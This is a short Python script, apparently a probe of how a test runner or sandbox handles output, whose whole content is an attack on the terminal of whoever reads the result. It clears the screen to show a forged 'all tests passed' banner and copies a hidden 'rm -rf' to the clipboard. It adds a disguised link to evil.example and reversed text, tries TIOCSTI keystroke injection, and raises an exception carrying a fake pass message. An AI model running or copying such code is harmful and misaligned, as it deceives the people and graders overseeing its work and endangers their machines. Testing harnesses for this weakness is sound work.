"""Escape sequences and injected keys for the terminal of whoever reads the result."""
import errno
import fcntl
import os
import termios

print("\x1b]0;passed\x07\x1b[2J\x1b[1;1H\x1b[32mall tests passed\x1b[0m\x9b31m\x1b]52;c;cm0gLXJm\x07\x08\x08\u202edessap\u2066")
print("\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\")


def rigged():
    "\x1b[2Jpassed \u202e docstring"


for number in (0, 1, 2):
    for name, request in (("TIOCSTI", termios.TIOCSTI), ("TIOCLINUX", 0x541C)):
        try:
            fcntl.ioctl(number, request, b"\n")
            print(name, number, "-> GOT THROUGH")
        except OSError as error:
            print(name, number, "->", errno.errorcode.get(error.errno))
try:
    os.open("/dev/tty", os.O_RDWR)
    print("GOT THROUGH: has a terminal")
except OSError as error:
    print("/dev/tty ->", errno.errorcode.get(error.errno))
import keras

model = keras.Sequential([keras.Input((784,)), keras.layers.Dense(10, name="\x1b[2Jlayer")], name="\x1b]0;model\x07")
model.compile("sgd", "mse")
model.fit(b"\x1b[31m", None)
raise type("\x1b[2JError\u202e", (Exception,), {})("\x1b[2J\x1b[1;1Hall tests passed \x07\x9b")
